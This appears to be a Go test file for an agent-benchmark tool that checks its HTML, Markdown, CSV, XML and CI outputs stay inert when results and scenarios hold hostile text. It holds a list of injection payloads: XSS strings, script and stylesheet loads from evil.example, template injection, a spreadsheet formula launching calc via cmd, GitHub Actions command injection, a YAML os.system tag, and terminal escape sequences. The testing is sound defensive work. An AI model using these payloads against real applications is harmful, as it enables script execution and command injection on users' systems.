package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/agentbench-go/agentbench/internal/text"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// steering is text that steers a terminal or an editor.
const steering = "\x1b[2J\x1b]0;owned\a\x1b]8;;http://evil.example\a\u009b31m\u202e\u2066\u200b\u2028\r\x00\x7f\ufeff"

// injections are texts that mean something in a format that an output has.
var injections = []string{
	`</script><script>window.pwned=1</script>`,
	`</title></style></textarea></pre></template></noscript><img src=http://evil.example/a.png onerror=window.pwned=1>`,
	`"'><svg/onload=window.pwned=1><iframe src=javascript:window.parent.pwned=1>`,
	`" autofocus onfocus=window.pwned=1 style=background:url(http://evil.example/b) x="`,
	`--><!--><script src=http://evil.example/c.js></script><!-- ]]> <![CDATA[`,
	`<base href=http://evil.example/><meta http-equiv=refresh content="0;url=http://evil.example/d"><link rel=stylesheet href=http://evil.example/e>`,
	"${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}`;window.pwned=1;`\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
	`&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;script&#62;window.pwned=1&#60;/script&#62; &evil; ]]>`,
	`[a](javascript:window.pwned=1) ![b](http://evil.example/f.png) <http://evil.example> | c | # d` + "\n# e\n```\n<script>window.pwned=1</script>\n",
	`=cmd|'/C calc'!A0` + "\n" + `::error file=a::b %0A::set-output name=c::d` + "\n" + `a: &x [*x] !!python/object:os.system {} - ---`,
}

// A hostile folder holds a results file, a scenario and a recorded run whose
// every text holds one more text.
func hostile(t *testing.T, injected string) string {
	t.Helper()
	dir := t.TempDir()
	in, err := json.Marshal(injected)
	if err != nil {
		t.Fatal(err)
	}
	in = bytes.ReplaceAll(text.JSON(in), []byte("${"), []byte("$ {")) // which is a YAML text without a value to fill in
	put := func(name, content string) {
		t.Helper()
		path := filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o777), os.WriteFile(path, []byte(content), 0o666)); err != nil {
			t.Fatal(err)
		}
	}
	scenario := strings.ReplaceAll(`name: evil
description: IN
source: IN
label: runaway
task: IN
tools:
  - {name: look, description: IN, input: {type: object, properties: {q: {type: string, description: IN}}}, answers: [{result: IN}]}
  - {name: fail, answers: [{error: Timeout, text: IN}]}
model:
  - {text: IN, calls: [{look: {q: IN}}, {fail: {IN: IN}}, {IN: {}}]}
  - {text: IN}
`, "IN", string(in))
	put("s/evil.yaml", scenario)
	put("broken/evil.yaml", strings.Replace(scenario, "label:", string(in)+": "+string(in)+"\nlabel:", 1))
	const chat = `"messages": [{"role": "user", "content": IN}, {"role": "assistant", "content": IN, "tool_calls": [{"id": IN, "type": "function", "function": {"name": IN, "arguments": IN}}]},` +
		` {"role": "tool", "tool_call_id": IN, "content": IN}, {"role": "assistant", "content": IN}]}` + "\n"
	put("runs/run.jsonl", strings.ReplaceAll(`{"name": IN, `+chat+`{`+chat, "IN", string(in)))
	runs(t, dir, nil, "golden", "update", "s")
	put("s/evil.yaml", strings.Replace(scenario, "answers: [{result: "+string(in), "answers: [{result: "+strings.Replace(string(in), `"`, `"changed `, 1), 1))
	runs(t, dir, nil, "run", "s", "-q", "--golden", "check", "--variant", "hpd-agent", "--variant", "none", "--keep-traces", "all", "-o", "made.jsonl")
	made, err := os.ReadFile(filepath.Join(dir, "made.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var forged bytes.Buffer
	e := json.NewEncoder(&forged)
	e.SetEscapeHTML(false)
	for line := range bytes.Lines(made) {
		var v map[string]any
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatal(err)
		}
		if v["type"] == "trial" {
			for _, key := range []string{"why", "task", "corpus", "client", "repeat"} {
				v[key] = key
			}
			v["exit"] = 1
		}
		if err := e.Encode(forge("", v, injected)); err != nil {
			t.Fatal(err)
		}
	}
	// What no encoder writes: the characters as they are, and bytes that are not UTF-8.
	raw := bytes.ReplaceAll(forged.Bytes(), []byte("end of text"), []byte("end\xff\xc3(of \xed\xa0\x80text"))
	put("forged.jsonl", string(raw))
	put("one/forged.jsonl", strings.Join(strings.SplitAfterN(string(raw), "\n", 3)[:2], "")) // the header and a trial
	return dir
}

// forge adds a text to all texts of a line of results but those that a reader
// checks.
func forge(key string, v any, injected string) any {
	switch v := v.(type) {
	case string:
		if slices.Contains([]string{"type", "schema", "kind", "judged", "label", "verdict", "end_state", "golden", "sha256"}, key) {
			return v
		}
		return injected + " " + v + injected + "end of text"
	case []any:
		for i := range v {
			v[i] = forge(key, v[i], injected)
		}
	case map[string]any:
		for k, one := range maps.Clone(v) {
			switch key {
			case "variants": // the names; a config has no free text
				delete(v, k)
				v[forge("", k, injected).(string)] = one
			case "codes":
			default:
				v[k] = forge(k, one, injected)
			}
		}
	}
	return v
}

// runs runs the command in a folder and returns what it writes. It must not end
// with the code of bad usage, nor in a panic.
func runs(t *testing.T, dir string, env []string, args ...string) (stdout, stderr string) {
	t.Helper()
	cmd := exec.Command("agentbench", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) || cmd.ProcessState.ExitCode() == 2 && args[0] != "validate" || strings.Contains(errs.String(), "goroutine ") {
		t.Fatalf("agentbench %q: %v\n%s", args, err, &errs)
	}
	return out.String(), errs.String()
}

const formats = ".jsonl .json .md .html .xml .svg .csv .sarif .codequality.json"

// outputs returns -o NAME.EXT for all formats.
func outputs(name string) (args []string) {
	for ext := range strings.FieldsSeq(formats) {
		args = append(args, "-o", name+ext)
	}
	return args
}

// Whatever texts a results file, a scenario or a recorded run holds, no output
// holds a character that steers what shows it, and each is what its format is:
// XML, JSON and CSV can be read, no cell of a spreadsheet is a formula, and no
// line of a log is a command of GitHub Actions.
func TestHostileOutputs(t *testing.T) {
	dir := hostile(t, "=1+1"+steering+strings.Join(injections, " ")+steering)
	actions := []string{"GITHUB_ACTIONS=true", "GITHUB_STEP_SUMMARY=" + filepath.Join(dir, "summary.md")}
	shown := map[string]string{}
	for _, c := range []struct {
		env  []string
		args []string
	}{
		{nil, append([]string{"report", "forged.jsonl"}, outputs("report")[2:]...)},
		{nil, []string{"report", "forged.jsonl", "--format", "json"}},
		{nil, []string{"gate", "forged.jsonl", "-o", "gate.json", "-o", "gate.xml", "-o", "gate.md"}},
		{nil, []string{"gate", "forged.jsonl", "--baseline", "forged.jsonl", "--format", "json"}},
		{actions, []string{"gate", "forged.jsonl", "--ci"}},
		{actions, append([]string{"run", "s", "-v", "--ci", "--golden", "check", "--keep-traces", "all"}, outputs("run")...)},
		{nil, []string{"run", "s", "--format", "jsonl", "--keep-traces", "all", "--golden", "check"}},
		{nil, append([]string{"compare", "s", "--variant", "none", "--variant", "hpd-agent"}, outputs("compare")...)},
		{nil, append([]string{"replay", "runs", "-v"}, outputs("replay")...)},
		{nil, []string{"replay", "runs/run.jsonl", "--to-scenario", "line=2", "-o", "made.yaml"}},
		{nil, []string{"explain", "one/forged.jsonl"}},
		{nil, []string{"explain", "made.jsonl", "--trial", "s/evil/none"}},
		{nil, []string{"explain", "s/evil.yaml"}},
		{nil, []string{"list", "scenarios", "s"}},
		{nil, []string{"validate", "s", "broken"}},
		{nil, []string{"golden", "s"}},
		{nil, []string{"golden", "update", "s"}},
	} {
		stdout, stderr := runs(t, dir, c.env, c.args...)
		for stream, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
			shown[strings.Join(c.args, " ")+" "+stream] = text
		}
		if c.env != nil {
			for line := range strings.Lines(stdout + stderr) {
				name, _, _ := strings.Cut(strings.TrimPrefix(line, "::"), " ")
				if strings.HasPrefix(line, "::") && !slices.Contains([]string{"error", "warning", "notice"}, name) {
					t.Errorf("%q writes the command %q", c.args, line)
				}
			}
		}
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.*"))
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range files {
		if name := filepath.Base(path); name != "forged.jsonl" && name != "made.jsonl" {
			content, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			shown[name] = string(content)
		}
	}
	full := 0
	for _, name := range slices.Sorted(maps.Keys(shown)) {
		content := shown[name]
		if content != "" {
			full++
		}
		steers := func(r rune) bool {
			// Markdown gets zero width spaces of ours, so that no text becomes a link.
			return text.Hidden(r) && r != '\n' && r != '\t' && !(r == '\u200b' && filepath.Ext(name) == ".md")
		}
		if i := strings.IndexFunc(content, steers); i >= 0 || !utf8.ValidString(content) {
			t.Errorf("%s holds %q", name, content[max(0, i-60):min(len(content), max(0, i)+60)])
		}
		var err error
		switch filepath.Ext(name) {
		case ".json", ".sarif":
			err = json.Unmarshal([]byte(content), new(any))
		case ".jsonl":
			for line := range strings.Lines(content) {
				err = errors.Join(err, json.Unmarshal([]byte(line), new(any)))
			}
		case ".xml", ".svg":
			err = wellFormed([]byte(content))
		case ".csv":
			err = noFormula(content)
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	t.Logf("%d outputs, of which %d are not empty", len(shown), full)
	if full < 40 {
		t.Errorf("only %d of %d outputs hold anything", full, len(shown))
	}
}

func wellFormed(content []byte) error {
	for d := xml.NewDecoder(bytes.NewReader(content)); ; {
		if _, err := d.Token(); err == io.EOF {
			return nil
		} else if err != nil {
			return err
		}
	}
}

func noFormula(content string) error {
	rows, err := csv.NewReader(strings.NewReader(content)).ReadAll()
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				err = errors.Join(err, fmt.Errorf("the cell %q is a formula", cell))
			}
		}
	}
	return err
}

// In a browser nothing of a hostile report runs or is asked of the network,
// however much of it is opened.
func TestBrowserHostileDocuments(t *testing.T) {
	ctx := browser(t)
	var lock sync.Mutex
	var asked []string // URLs
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			lock.Lock()
			defer lock.Unlock()
			asked = append(asked, e.Request.URL)
		}
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	// What the checks below would see of a page that is not safe.
	unsafe := filepath.Join(t.TempDir(), "unsafe.html")
	if err := os.WriteFile(unsafe, []byte("<script>window.pwned=1</script><img src=file:///nowhere/a.png>"), 0o600); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, chromedp.Navigate("file://"+unsafe))
	see(t, ctx, `window.pwned`, 1)
	lock.Lock()
	if len(asked) != 2 {
		t.Errorf("requests of a page with a picture: %q", asked)
	}
	asked = nil
	lock.Unlock()
	documents := 0
	for _, injected := range injections {
		dir := hostile(t, injected)
		runs(t, dir, nil, "report", "forged.jsonl", "-q", "-o", "report.html")
		runs(t, dir, nil, "run", "s", "-q", "--keep-traces", "all", "--golden", "check", "-o", "run.html")
		for _, name := range []string{"report.html", "run.html"} {
			do(t, ctx, chromedp.Navigate("file://"+filepath.Join(dir, name)))
			see(t, ctx, `document.querySelectorAll('#rows a').length > 0`, true)
			see(t, ctx, `[...document.querySelectorAll('#rows a, button, summary')].map(a => a.click()).length > 0`, true)
			see(t, ctx, `[...document.querySelectorAll('details')].map(d => d.open = true).length > 0`, true)
			see(t, ctx, `window.pwned === undefined`, true)
			see(t, ctx, `document.querySelectorAll('img, iframe, base, link, object, embed, script[src], [http-equiv=refresh], [onerror], [onload], [onfocus], a[href^=javascript]').length`, 0)
			see(t, ctx, fmt.Sprintf(`location.pathname.endsWith(%q)`, name), true)
			documents++
		}
	}
	lock.Lock()
	defer lock.Unlock()
	t.Logf("%d documents", documents)
	if len(asked) != documents {
		t.Errorf("%d requests for %d documents: %q", len(asked), documents, asked)
	}
}
